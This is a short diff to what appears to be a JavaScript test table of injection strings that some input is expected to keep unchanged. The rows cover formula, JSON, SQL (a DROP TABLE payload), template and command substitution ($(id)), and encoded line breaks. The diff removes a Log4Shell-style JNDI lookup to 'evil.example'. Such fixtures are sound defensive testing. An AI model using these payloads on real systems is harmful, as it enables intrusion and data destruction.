@@ -25,7 +25,7 @@ test.each([
   ['another formula', '@SUM(1+1)*cmd', '@SUM(1+1)*cmd'],
   ['JSON', '","visits":1e9,"a":"', '","visits":1e9,"a":"'],
   ['SQL', "'); DROP TABLE links; --", "'); DROP TABLE links; --"],
-  ['a template', '${jndi:ldap://evil.example/a}', '${jndi:ldap://evil.example/a}'],
+  ['a template', '{{7*7}} #{7*7} $(id)', '{{7*7}} #{7*7} $(id)'],
   ['a percent-encoded line break', 'a%0d%0ab', 'a%0d%0ab'],
   ['an escaped NUL', 'a\\u0000b', 'a\\u0000b'],
   ['a TAB', 'a\tb', 'a\tb'],
